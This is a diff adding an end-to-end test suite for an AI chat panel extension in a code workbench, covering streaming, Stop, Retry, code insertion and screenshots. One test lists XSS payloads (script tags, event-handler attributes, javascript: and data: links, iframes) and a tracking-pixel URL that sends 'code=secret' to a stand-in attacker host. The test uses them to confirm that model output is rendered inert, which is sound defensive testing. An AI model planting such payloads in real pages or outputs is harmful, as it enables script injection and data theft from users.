@@ -1,0 +1,245 @@
+// The chat panel in the real workbench, driven through its accessibility contract: the `Message` box, the Send / Stop
+// / New chat / Retry / Copy / Insert / Apply buttons, messages as articles labelled `User message` / `Assistant
+// message` (aria-busy while streaming), errors as role=alert. The reference server answers, with scripted turns and
+// faults. Screenshots in light and dark land in test-results/e2e/.
+import assert from 'node:assert/strict';
+import {
+  alerts,
+  answerText,
+  assistantMessages,
+  busyAssistantMessage,
+  button,
+  chatFrame,
+  lastFinishedAnswer,
+  messageBox,
+  openChat,
+  sendMessage,
+  userMessages,
+} from '../support/e2e/chatView';
+import { setColorTheme } from '../support/e2e/colorTheme';
+import { screenshot } from '../support/e2e/screenshots';
+import { until } from '../support/e2e/until';
+import { useChatPanel } from '../support/e2e/useChatPanel';
+import { useWorkbench } from '../support/e2e/useWorkbench';
+import { editorGroupWithTab, editorText, openFile, selectLines } from '../support/e2e/workbenchUi';
+import { faultTurn, startReferenceServer, textTurn, type ReferenceServer } from '../support/referenceServer';
+
+const MODEL = 'chat-model';
+const chatRequests = (server: ReferenceServer) => server.requests.filter((request) => request.path.endsWith('/chat/completions'));
+
+describe('The chat panel in the workbench (e2e)', function () {
+  let server: ReferenceServer;
+  before(async () => {
+    server = await startReferenceServer({ model: MODEL });
+  });
+  after(async () => {
+    await server?.close();
+  });
+  const workbench = useWorkbench(() => ({
+    settings: { 'askModel.baseUrl': server.url, 'askModel.model': MODEL, 'askModel.maxRetries': 0 },
+    waitForActivation: false, // opening the chat activates the extension
+  }));
+  const chat = useChatPanel(workbench);
+  beforeEach(() => server.reset());
+
+  it('sends a message and streams the answer: busy while it streams, then exactly the text, with a footer', async () => {
+    const answer = 'One two three four five six seven eight nine ten.';
+    server.script(faultTurn({ type: 'slowDrip', delayMs: 200 }, textTurn(answer, { chunks: 10 })));
+    await sendMessage(chat.view, 'Count to ten, slowly.');
+
+    const user = userMessages(chat.view).last();
+    await user.waitFor();
+    assert.match(await user.innerText(), /Count to ten, slowly\./);
+    // While it streams: the message is aria-busy, Stop is offered, and part of the answer is already on screen.
+    const busy = busyAssistantMessage(chat.view);
+    await busy.waitFor();
+    await button(chat.view, 'Stop').waitFor();
+    await until(async () => {
+      const partial = await answerText(busy);
+      return partial.startsWith('One') && partial !== answer;
+    }, 'a partial answer while aria-busy is true');
+
+    const done = await lastFinishedAnswer(chat.view);
+    assert.equal(await answerText(done), answer);
+    assert.equal(await done.getAttribute('aria-busy'), null);
+    assert.match(await done.innerText(), new RegExp(`model ${MODEL} · tokens \\d+/\\d+/\\d+`));
+    await button(chat.view, 'Stop').waitFor({ state: 'hidden' });
+    assert.equal(await alerts(chat.view).count(), 0);
+    const sent = chatRequests(server).at(-1)?.body as { messages: { role: string; content: unknown }[]; stream: boolean };
+    assert.equal(sent.stream, true);
+    assert.equal(sent.messages.filter((message) => message.role === 'user').at(-1)?.content, 'Count to ten, slowly.');
+  });
+
+  it('Stop ends the stream and keeps the partial answer', async () => {
+    const answer = Array.from({ length: 30 }, (_, i) => `word${i + 1}`).join(' ');
+    server.script(faultTurn({ type: 'slowDrip', delayMs: 250 }, textTurn(answer, { chunks: 30 })));
+    await sendMessage(chat.view, 'Say thirty words.');
+    const busy = busyAssistantMessage(chat.view);
+    await until(async () => (await answerText(busy)).includes('word2'), 'the first words');
+    await button(chat.view, 'Stop').click();
+
+    const stopped = await lastFinishedAnswer(chat.view);
+    const partial = await answerText(stopped);
+    assert.ok(partial.length > 0 && answer.startsWith(partial) && partial !== answer, `a partial answer was kept: "${partial}"`);
+    assert.match(await stopped.innerText(), /Stopped/);
+    // Nothing more arrives after Stop.
+    await new Promise((resolve) => setTimeout(resolve, 800));
+    assert.equal(await answerText(stopped), partial);
+  });
+
+  it('shows a server error as an alert, and Retry sends the question again', async () => {
+    server.script(
+      faultTurn({ type: 'status', status: 500, body: 'openai', message: 'The e2e server fell over.' }),
+      textTurn('Second time lucky.'),
+    );
+    await sendMessage(chat.view, 'Will this work?');
+    const alert = alerts(chat.view).first();
+    await alert.waitFor();
+    assert.match(await alert.innerText(), /500|fell over/);
+    assert.equal(chatRequests(server).length, 1, 'maxRetries 0: no automatic retry');
+
+    await button(alert, 'Retry').click();
+    await until(async () => (await answerText(assistantMessages(chat.view).last())).includes('Second time lucky.'), 'the retried answer');
+    await lastFinishedAnswer(chat.view);
+    assert.equal(await alerts(chat.view).count(), 0, 'the error is gone once the retry answered');
+    assert.equal(chatRequests(server).length, 2);
+    assert.equal(await userMessages(chat.view).count(), 1, 'Retry does not repeat the user message');
+  });
+
+  it('Insert puts a code block from the answer into the editor at the cursor', async () => {
+    const { page } = workbench;
+    const code = 'export const answer = 42;';
+    server.script(textTurn(`Add this line:\n\n\`\`\`ts\n${code}\n\`\`\`\n`));
+    // The cursor at the end of hello.ts, then back to the chat.
+    await openFile(page, 'hello.ts');
+    await page.keyboard.press('Control+End');
+    await openChat(page);
+    await sendMessage(chat.view, 'Give me a constant.');
+    const done = await lastFinishedAnswer(chat.view);
+    await button(done, 'Insert').click();
+    const editor = editorGroupWithTab(page, 'hello.ts');
+    await until(async () => (await editorText(editor)).includes(code), 'the code in hello.ts');
+    const text = await editorText(editor);
+    assert.ok(text.trimEnd().endsWith(code), `inserted at the cursor (the end of the file):\n${text}`);
+    assert.match(text, /^\/\/ A small file/, 'the rest of the file is untouched');
+    await openFile(page, 'hello.ts');
+    await page.keyboard.press('Control+Z'); // leave hello.ts as it was for the other tests
+    await until(async () => !(await editorText(editor)).includes(code), 'the insert undone');
+    await openChat(page);
+  });
+
+  it('Apply replaces the selection with a code block; Copy puts the code on the clipboard', async () => {
+    const { page, session } = workbench;
+    const code = '  return `Good day, ${name}!`;';
+    server.script(textTurn(`Use this line instead:\n\n\`\`\`ts\n${code}\n\`\`\`\n`));
+    await session.browser.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: session.server.origin });
+    await openFile(page, 'hello.ts');
+    await selectLines(page, 3, 3);
+    await openChat(page);
+    await sendMessage(chat.view, 'A friendlier greeting, please.');
+    const done = await lastFinishedAnswer(chat.view);
+
+    await button(done, 'Copy').click();
+    await page.locator('.part.statusbar', { hasText: 'Ask Model: code copied' }).waitFor();
+    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), code);
+
+    await button(done, 'Apply').click();
+    const editor = editorGroupWithTab(page, 'hello.ts');
+    await until(async () => (await editorText(editor)).includes('Good day'), 'the selection replaced');
+    const lines = (await editorText(editor)).split('\n');
+    assert.equal(lines[2], code, 'line 3 is the applied code');
+    assert.match(lines[1] ?? '', /^export function hello/, 'the line above is untouched');
+    assert.equal(lines[3], '}', 'the line below is untouched');
+    await openFile(page, 'hello.ts');
+    await page.keyboard.press('Control+Z'); // one undo step reverts it
+    await until(async () => !(await editorText(editor)).includes('Good day'), 'Apply undone in one step');
+    await openChat(page);
+  });
+
+  it('renders model output as inert text: no script, handler, frame, style or unsafe link runs', async () => {
+    const { page } = workbench;
+    const payloads = [
+      `<script>window.__askModelPwned = 'script'; parent.postMessage({ pwned: 'script' }, '*'); document.title = 'pwned';</script>`,
+      `<img src=x onerror="window.__askModelPwned='img'; document.title='pwned'">`,
+      `[a javascript link](javascript:window.__askModelPwned='js-link')`,
+      `[a data link](data:text/html,<script>alert('data')</script>)`,
+      `<a href="javascript:alert('raw-a')">a raw anchor</a>`,
+      `<iframe src="javascript:alert('iframe')"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>`,
+      `<style>body { display: none !important; } * { color: red !important; }</style>`,
+      `<svg onload="window.__askModelPwned='svg'"><circle r="10"/></svg>`,
+      `<details open ontoggle="window.__askModelPwned='details'">x</details>`,
+      `![tracking pixel](https://attacker.invalid/pixel.png?code=secret)`,
+      `![bad image](javascript:alert('img'))`,
+    ];
+    const answer = `Here is what you asked for:\n\n${payloads.join('\n\n')}\n\nThe end.`;
+    server.script(textTurn(answer, { chunks: 7 }));
+    const titleBefore = await page.title();
+    await sendMessage(chat.view, 'Show me some HTML.');
+    const done = await lastFinishedAnswer(chat.view);
+    await new Promise((resolve) => setTimeout(resolve, 1_000)); // time for an onerror/onload to have fired
+
+    const frame = await chatFrame(page);
+    const inside = await frame.evaluate(() => {
+      const message = [...document.querySelectorAll('[role="article"][aria-label="Assistant message"]')].at(-1);
+      const dangerous = message?.querySelectorAll('script, iframe, style, svg, img, object, embed, [onerror], [onload], [ontoggle], [src], [srcdoc]');
+      const links = [...(message?.querySelectorAll('a') ?? [])].map((a) => a.getAttribute('href') ?? '');
+      return {
+        pwned: (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null,
+        title: document.title,
+        dangerous: [...(dangerous ?? [])].map((element) => element.outerHTML.slice(0, 120)),
+        links,
+        bodyDisplay: getComputedStyle(document.body).display,
+      };
+    });
+    assert.equal(inside.pwned, null, 'no payload ran inside the webview');
+    assert.equal(inside.title, 'Ask Model');
+    assert.deepEqual(inside.dangerous, [], 'no active element or handler made it into the DOM');
+    for (const href of inside.links) assert.match(href, /^https?:/, `only web links survive: ${href}`);
+    assert.notEqual(inside.bodyDisplay, 'none', 'the <style> payload was not applied');
+    assert.equal(await page.evaluate(() => (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null), null);
+    assert.equal(await page.title(), titleBefore, 'the workbench title is untouched');
+
+    // The payloads are shown as text, as written.
+    const shown = await answerText(done);
+    for (const fragment of ['<script>', '<img src=x onerror=', '<iframe src=', '<style>', '<svg onload=', '<details open ontoggle=']) {
+      assert.ok(shown.includes(fragment), `shown as text: ${fragment}\n${shown}`);
+    }
+    // Clicking the refused javascript: link text does nothing either.
+    await done.getByText('a javascript link').first().click();
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    assert.equal(await frame.evaluate(() => (window as unknown as { __askModelPwned?: string }).__askModelPwned ?? null), null);
+    await messageBox(chat.view).waitFor({ state: 'visible' });
+    assert.deepEqual(chat.dialogs, [], 'no alert/confirm/prompt dialog opened');
+    await screenshot(page, 'chat-model-output-as-text', page.locator('.part.sidebar'));
+  });
+
+  it('light and dark screenshots of a conversation', async () => {
+    const { page } = workbench;
+    const answer = [
+      '### What `hello` does',
+      '',
+      'It builds a greeting from a **name**:',
+      '',
+      '- takes one `string`',
+      '- returns a template literal',
+      '',
+      '```ts',
+      'export function hello(name: string): string {',
+      '  return `Hello, ${name}!`;',
+      '}',
+      '```',
+      '',
+      'See [the handbook](https://www.typescriptlang.org/docs/handbook/2/template-literal-types.html).',
+    ].join('\n');
+    server.script(textTurn(answer, { chunks: 6 }));
+    await sendMessage(chat.view, 'What does hello do?');
+    await lastFinishedAnswer(chat.view);
+    const sideBar = page.locator('.part.sidebar');
+    await screenshot(page, 'chat-light');
+    await screenshot(page, 'chat-panel-light', sideBar);
+    await setColorTheme(page, 'dark');
+    await screenshot(page, 'chat-dark');
+    await screenshot(page, 'chat-panel-dark', sideBar);
+    await setColorTheme(page, 'light');
+  });
+});
